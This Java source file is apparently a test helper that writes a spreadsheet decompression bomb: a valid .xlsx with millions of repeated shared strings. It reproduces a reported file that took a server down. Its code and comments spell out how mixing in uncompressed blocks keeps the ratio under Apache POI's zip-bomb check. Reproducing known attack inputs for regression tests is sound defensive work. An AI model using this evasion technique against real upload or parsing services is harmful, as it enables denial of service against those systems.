package org.shuangsheng.shared.table;

import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Writes the spreadsheet of issue 11, finding 1: a valid .xlsx whose shared strings are millions of
 * {@code <si><t>a</t></si>}, streamed into the zip so that the test never holds them. Plain
 * deflate packs that repetition 160 to 1 or more, which POI's own ratio check (100 to 1) would
 * refuse; every 64th block of 64 kB is therefore stored unpacked, which brings the ratio under 70
 * to 1, as in the file that took the server down (73 to 1). Files are written at run time, never kept in
 * the repository.
 */
public final class SpreadsheetBomb {

    private static final int BLOCK_BYTES = 64 * 1024;
    private static final int STORED_BLOCK_EVERY = 64;
    private static final Set<Path> WRITTEN = new HashSet<>();

    private SpreadsheetBomb() {
    }

    /**
     * Writes the bomb of one-letter texts, once a test run: later calls with the same file find it
     * written.
     *
     * @param file where to write it, e.g. under {@code target/}
     * @param header the header row's cells, as inline strings
     * @param texts how many shared strings {@code a}
     * @return the file
     */
    public static Path write(Path file, List<String> header, int texts) {
        return write(file, header, texts, 1);
    }

    /**
     * Writes a bomb of shared strings {@code aaa…}, once a test run.
     *
     * @param letters how long each text is, at most 32,767 as in Excel
     */
    public static synchronized Path write(Path file, List<String> header, int texts, int letters) {
        if (!WRITTEN.add(file.toAbsolutePath())) {
            return file;
        }
        try {
            Files.createDirectories(file.getParent());
            Path partial = file.resolveSibling(file.getFileName() + ".partial");
            try (Bombs zip = new Bombs(Files.newOutputStream(partial))) {
                text(zip, "[Content_Types].xml", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">\
                        <Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>\
                        <Default Extension="xml" ContentType="application/xml"/>\
                        <Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>\
                        <Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>\
                        <Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>\
                        </Types>""");
                text(zip, "_rels/.rels", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                        <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>\
                        </Relationships>""");
                text(zip, "xl/workbook.xml", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" \
                        xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">\
                        <sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>""");
                text(zip, "xl/_rels/workbook.xml.rels", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
                        <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>\
                        <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>\
                        </Relationships>""");
                StringBuilder headerCells = new StringBuilder();
                for (String name : header) {
                    headerCells.append("<c t=\"inlineStr\"><is><t>").append(name).append("</t></is></c>");
                }
                // The data row names the last text, so that a reader cannot skip the rest.
                text(zip, "xl/worksheets/sheet1.xml", """
                        <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
                        <worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>\
                        <row r="1">%s</row><row r="2"><c t="s"><v>%d</v></c></row></sheetData></worksheet>"""
                        .formatted(headerCells, texts - 1));
                zip.putNextEntry(new ZipEntry("xl/sharedStrings.xml"));
                zip.write(("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                        + "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">")
                        .getBytes(StandardCharsets.UTF_8));
                byte[] text = ("<si><t>" + "a".repeat(letters) + "</t></si>").getBytes(StandardCharsets.US_ASCII);
                int perBlock = Math.max(1, BLOCK_BYTES / text.length);
                byte[] block = new byte[text.length * perBlock];
                for (int i = 0; i < perBlock; i++) {
                    System.arraycopy(text, 0, block, i * text.length, text.length);
                }
                for (int written = 0, blocks = 0; written < texts; written += perBlock, blocks++) {
                    zip.stored(blocks % STORED_BLOCK_EVERY == 0);
                    zip.write(block, 0, text.length * Math.min(perBlock, texts - written));
                }
                zip.write("</sst>".getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
            Files.move(partial, file, StandardCopyOption.REPLACE_EXISTING);
            System.out.printf("Spreadsheet bomb %s: %,d bytes, %,d shared strings of %,d letters%n", file,
                    Files.size(file), texts, letters);
            return file;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void text(ZipOutputStream zip, String name, String content) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(content.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    /** A zip whose deflater can be told to store blocks as they are for a while. */
    private static final class Bombs extends ZipOutputStream {

        Bombs(OutputStream out) {
            super(out);
            setLevel(Deflater.BEST_SPEED);
        }

        void stored(boolean stored) {
            def.setLevel(stored ? Deflater.NO_COMPRESSION : Deflater.BEST_SPEED);
        }
    }
}
